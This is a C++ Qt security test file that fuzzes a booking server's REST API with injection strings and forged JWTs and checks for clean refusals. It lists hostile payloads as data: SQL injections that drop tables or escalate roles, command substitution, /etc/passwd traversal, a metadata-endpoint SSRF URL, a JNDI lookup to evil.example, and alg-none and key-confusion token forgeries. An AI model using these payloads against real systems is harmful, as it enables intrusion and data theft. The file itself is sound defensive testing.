// links: server_main contract_house
#include "server/http/jwt.h"
#include "server/services/audit.h"
#include "tests/contract/access_cells.h"
#include "tests/contract/api_document.h"
#include "tests/contract/cast.h"
#include "tests/contract/witness.h"

#include <QMessageAuthenticationCode>
#include <QtTest>

using namespace foyer;
using namespace foyer::server;
using namespace foyer::server::testing;

namespace {

std::string json(std::string text) { // moc takes no raw strings with quotes in them
    std::replace(text.begin(), text.end(), '\'', '"');
    return text;
}
std::string b64(const std::string& text) {
    return toBase64Url(asBytes(text));
}

/// As JSON strings, quotes included.
std::vector<std::string> injections() {
    std::vector<std::string> all{
        R"("' OR 1=1 --")",
        R"("'; DROP TABLE booking; --")",
        R"("'); DELETE FROM seat_claim; --")",
        R"("\"; UPDATE account SET role='admin'; --")",
        R"("x' UNION SELECT password_hash FROM account --")",
        R"("018f3c2e-7a10-7000-8000-000000000001' --")",
        R"("$1")",
        R"("%s%n%x")",
        R"("%00%0d%0a")",
        R"("a\u0000b")",
        R"("a\r\nX-Evil: 1\r\n\r\n")",
        R"("a@b.example\r\nBcc: eve@example.com")",
        R"("../../../../etc/passwd")",
        R"("file:///etc/passwd")",
        R"("http://169.254.169.254/latest/meta-data")",
        R"("$(reboot)`id`|cat;")",
        R"("${jndi:ldap://evil.example/x}")",
        R"("{{7*7}}<%= 7*7 %>#{7*7}")",
        R"("<script>alert(1)</script>")",
        R"("=cmd|' /C calc'!A0")",
        R"("\u202e\u200b\ufeff")",
        R"("\ud83c\udf9f")",
        R"("\ud800")",
        R"("\uffff")",
        R"("")",
        R"(" ")",
        R"("null")",
        R"("-1")",
        R"("1e999")",
        R"("2026-02-30")",
        R"("__proto__")",
    };
    all.push_back("\"" + std::string(70'000, 'A') + "\"");
    return all;
}

} // namespace

/// Attacks made from lists and from the document of the interface: none is answered by a failure of
/// the server, and none that is refused leaves a trace in the database.
class RestAttacks : public QObject {
    Q_OBJECT

private:
    std::unique_ptr<Cast> m_cast;
    std::unique_ptr<Witness> m_witness;
    ApiDocument m_api;

    static bool may(const std::string& operation, char letter) {
        return doors().at(operation).may.find(letter) != std::string::npos;
    }
    /// The token of the mightiest who may.
    std::string bearerFor(const std::string& operation) {
        if (may(operation, 'X'))
            return m_cast->token(Party::Admin);
        if (!may(operation, 'T'))
            return "";
        return operation == "sellHold" || operation == "refundBooking" ? m_cast->shop.token
                                                                       : m_cast->till.token;
    }
    std::string pathOf(const ApiCall& call) const {
        auto path = call.path;
        const auto at = path.find("{id}");
        if (at != path.npos)
            path.replace(at, 4,
                         call.path.starts_with("/v1/showtimes")
                             ? m_cast->showtime.toString()
                             : "018f3c2e-7a10-7000-8000-000000000001");
        return path;
    }
    /// What must hold of every answer to an attack.
    void judge(const Answer& answer, const std::string& what) {
        const auto told = what.substr(0, 300) + " -> " + std::to_string(answer.status) + " " +
                          answer.body.substr(0, 200);
        QVERIFY2(answer.status >= 200 && answer.status < 500, told.c_str());
        if (answer.status >= 400) {
            const auto change = m_witness->change();
            QVERIFY2(change.empty(), (told + " changed " + change).c_str());
            QVERIFY2(!problemOf(answer).empty(), told.c_str());
        } else {
            (void)m_witness->change();
        }
    }

    wire::JwtClaims claims() const {
        const auto now = SystemClock().now();
        const auto text = m_cast->house.get("/v1/account", {m_admin, {}});
        return {std::string(http::kTokenIssuer),
                std::string(http::kTokenAudience),
                *AccountId::parse(jsonOf(text)["id"].toString().toStdString()),
                SessionId{},
                domain::AccountRole::Admin,
                now,
                now + std::chrono::minutes{15}};
    }
    static std::string sealed(const http::TokenKey& by, const std::string& header,
                              const std::string& body) {
        const std::string text = b64(header) + '.' + b64(body);
        return text + '.' + toBase64Url(by.key.sign(asBytes(text)));
    }
    std::string header(const std::string& alg, const std::string& typ, const std::string& kid) {
        return wire::encodeJwtHeader({alg, typ, kid});
    }
    std::vector<std::pair<std::string, std::string>> forgeries();

    std::string m_admin;

private slots:
    void initTestCase() {
        m_cast = std::make_unique<Cast>();
        m_admin = m_cast->token(Party::Admin);
        m_witness = std::make_unique<Witness>(m_cast->house.settings.database());
    }
    void cleanupTestCase() {
        m_witness.reset();
        m_cast.reset();
    }

    void theDocumentNamesEveryDoor() {
        QCOMPARE(m_api.calls.size(), doors().size());
        for (const auto& call : m_api.calls)
            QVERIFY2(doors().contains(call.operation), call.operation.c_str());
    }

    void noForgedTokenOpensAnyDoor() {
        int tried = 0;
        for (const auto& [name, token] : forgeries())
            for (const auto& call : m_api.calls) {
                if (may(call.operation, 'A'))
                    continue;
                const auto answer = m_cast->house.ask(
                    call.method, pathOf(call), call.method == "GET" ? "" : "{}", {token, {}});
                QVERIFY2(answer.status == 401,
                         (name + " at " + call.operation + ": " + std::to_string(answer.status))
                             .c_str());
                ++tried;
            }
        QCOMPARE(QString::fromStdString(m_witness->change()), QString());
        QVERIFY(tried > 1'000);
        qInfo("%d doors tried by forged tokens", tried);
    }

    void theTokenTheyAreMadeOfIsGood() {
        QCOMPARE(m_cast->house.get("/v1/policy", {m_admin, {}}).status, 200);
        const auto by = m_cast->keys->signing();
        const auto own =
            sealed(by, header("ES256", "JWT", by.kid), wire::encodeJwtClaims(claims()));
        QCOMPARE(m_cast->house.get("/v1/policy", {own, {}}).status, 200);
    }

    void injectionsInEveryStringOfEveryBody() {
        int tried = 0;
        for (const auto& call : m_api.calls) {
            const auto bearer = bearerFor(call.operation);
            const JsonParts parts(call.body.empty() ? "{}" : call.body);
            for (const auto& span : parts.values) {
                if (call.body.empty() || call.body[span.at] != '"')
                    continue;
                for (const auto& injection : injections()) {
                    auto body = call.body;
                    body.replace(span.at, span.size, injection);
                    const auto answer =
                        m_cast->house.ask(call.method, pathOf(call), body, {bearer, {}});
                    judge(answer, call.operation + " " + body);
                    if (QTest::currentTestFailed())
                        return;
                    ++tried;
                }
            }
        }
        QVERIFY(tried > 1'500);
        qInfo("%d bodies with injections", tried);
    }

    void injectionsInPathsQueriesAndHeaders() {
        const std::vector<std::string> texts{"'%20OR%201=1--",
                                             "%27;DROP%20TABLE%20booking",
                                             "..%2f..%2fetc",
                                             "-1",
                                             "99999999999999999999",
                                             "%F0%9F%8E%9F",
                                             "%C0%AF",
                                             "nan",
                                             "1e5",
                                             "0x10"};
        const std::vector<std::string> names{"q",        "genre",  "rating", "year",
                                             "limit",    "cursor", "day",    "movie",
                                             "language", "state",  "since",  "auditorium"};
        int tried = 0;
        for (const auto& call : m_api.calls) {
            if (call.operation == "watchSeats")
                continue; // a socket, see the malformed requests
            const Extra extra{bearerFor(call.operation), {}};
            const auto body = call.method == "GET" || call.method == "DELETE" ? "" : "{}";
            for (const auto& text : texts) {
                if (auto path = call.path; path.find("{id}") != path.npos) {
                    judge(m_cast->house.ask(call.method, path.replace(path.find("{id}"), 4, text),
                                            body, extra),
                          call.operation + " id " + text);
                    ++tried;
                }
                if (call.method != "GET")
                    continue;
                for (const auto& name : names) {
                    judge(m_cast->house.get(pathOf(call) + "?" + name + "=" + text, extra),
                          call.operation + " " + name + "=" + text);
                    ++tried;
                }
            }
            for (const char* name : {"Hold-Token", "Idempotency-Key", "If-None-Match", "Accept",
                                     "traceparent", "X-Request-Id", "Foyer-Journal", "Foyer-Seen",
                                     "Foyer-Heard", "Foyer-Schema", "Stripe-Signature"}) {
                auto with = extra;
                with.headers.emplace_back(name, "' OR 1=1; --,\"\\%00<script>99999999999999999999");
                judge(m_cast->house.ask(call.method, pathOf(call), body, with),
                      call.operation + " header " + name);
                ++tried;
            }
            if (QTest::currentTestFailed())
                return;
        }
        QVERIFY(tried > 2'000);
        qInfo("%d paths, queries and headers with injections", tried);
    }

    void aNameIsKeptAsItWasWritten() {
        const auto bearer = m_cast->signIn("bobby@example.com", domain::AccountRole::Customer);
        for (const auto& injection : injections()) {
            const auto answer =
                m_cast->house.ask("PATCH", "/v1/account",
                                  "{\"name\":" + injection + ",\"language\":\"en\"}", {bearer, {}});
            if (answer.status != 200)
                continue;
            const auto sent =
                QJsonDocument::fromJson("[" + QByteArray::fromStdString(injection) + "]")[0];
            QCOMPARE(jsonOf(m_cast->house.get("/v1/account", {bearer, {}}))["name"], sent);
        }
    }

    /// After all of it: the books are in order.
    void theHouseStands() {
        QCOMPARE(m_cast->house.get("/readyz").status, 200);
        const auto report =
            services::Audit(m_cast->house.node->reader(), m_cast->house.node->verifier()).run();
        QVERIFY(report.ok());
        QVERIFY(report->findings.empty());
    }
};

std::vector<std::pair<std::string, std::string>> RestAttacks::forgeries() {
    const auto& mine = m_cast->keys->signing();
    const auto foreign = http::tokenKeyOf(crypto::Es256Key::generate());
    const auto good = header("ES256", "JWT", mine.kid);
    const auto body = wire::encodeJwtClaims(claims());
    const auto whole = sealed(mine, good, body);
    const auto dot = whole.rfind('.');
    std::vector<std::pair<std::string, std::string>> all;
    for (const char* alg :
         {"none", "None", "NONE", "nOnE", "", "HS256", "RS256", "ES384", "PS256"}) {
        all.emplace_back(std::string("unsigned, alg ") + alg,
                         b64(header(alg, "JWT", mine.kid)) + "." + b64(body) + ".");
        all.emplace_back(std::string("signed, alg ") + alg,
                         sealed(mine, header(alg, "JWT", mine.kid), body));
    }
    const std::string hs256 = b64(header("HS256", "JWT", mine.kid)) + "." + b64(body);
    for (const auto& secret : {m_cast->keys->published(), mine.kid, std::string()}) {
        const auto mac = QMessageAuthenticationCode::hash(QByteArray::fromStdString(hs256),
                                                          QByteArray::fromStdString(secret),
                                                          QCryptographicHash::Sha256);
        all.emplace_back("HS256 with what is public", hs256 + "." + b64(mac.toStdString()));
    }
    for (const std::string& kid :
         {std::string("../../dev/null"), std::string("' OR 1=1 --"), std::string("|reboot"),
          std::string(), foreign.kid, std::string("https://evil.example/key")})
        all.emplace_back("kid " + kid, sealed(foreign, header("ES256", "JWT", kid), body));
    all.emplace_back("signed by a stranger", sealed(foreign, good, body));
    for (const std::string& more :
         {json("'jwk':{}"), json("'jku':'https://evil.example/k'"), json("'x5c':['MIIB']"),
          json("'crit':['exp']"), json("'alg':'none'"), json("'b64':false")})
        all.emplace_back("header with " + more,
                         sealed(mine, good.substr(0, good.size() - 1) + "," + more + "}", body));
    for (const char* typ : {"at+jwt", "JOSE", "jwt", "", "JWT\r\n"})
        all.emplace_back(std::string("typ ") + typ,
                         sealed(mine, header("ES256", typ, mine.kid), body));
    auto twisted = claims();
    twisted.expiresAt = twisted.issuedAt;
    all.emplace_back("expired", sealed(mine, good, wire::encodeJwtClaims(twisted)));
    twisted.issuedAt += std::chrono::hours{1};
    twisted.expiresAt = twisted.issuedAt + std::chrono::minutes{15};
    all.emplace_back("not begun", sealed(mine, good, wire::encodeJwtClaims(twisted)));
    twisted = claims();
    twisted.audience = "another-api";
    all.emplace_back("wrong audience", sealed(mine, good, wire::encodeJwtClaims(twisted)));
    twisted = claims();
    twisted.issuer = "https://evil.example";
    all.emplace_back("wrong issuer", sealed(mine, good, wire::encodeJwtClaims(twisted)));
    all.emplace_back("another body under the signature",
                     b64(good) + "." + b64(wire::encodeJwtClaims(twisted)) + whole.substr(dot));
    for (std::size_t size = 1; size < whole.size(); size += whole.size() / 12 + 1)
        all.emplace_back("truncated to " + std::to_string(size), whole.substr(0, size));
    all.emplace_back("without its last character", whole.substr(0, whole.size() - 1));
    all.emplace_back("no signature", whole.substr(0, dot + 1));
    all.emplace_back("zeros", whole.substr(0, dot + 1) + toBase64Url(crypto::Es256Signature{}));
    all.emplace_back("padding", whole + "=");
    all.emplace_back("five parts", whole + ".a.b");
    all.emplace_back("dots", "...");
    all.emplace_back("opaque", std::string(43, 'A'));
    all.emplace_back("long", whole + std::string(6'000, 'A'));
    return all;
}

QTEST_GUILESS_MAIN(RestAttacks)
#include "rest_attacks_test.moc"
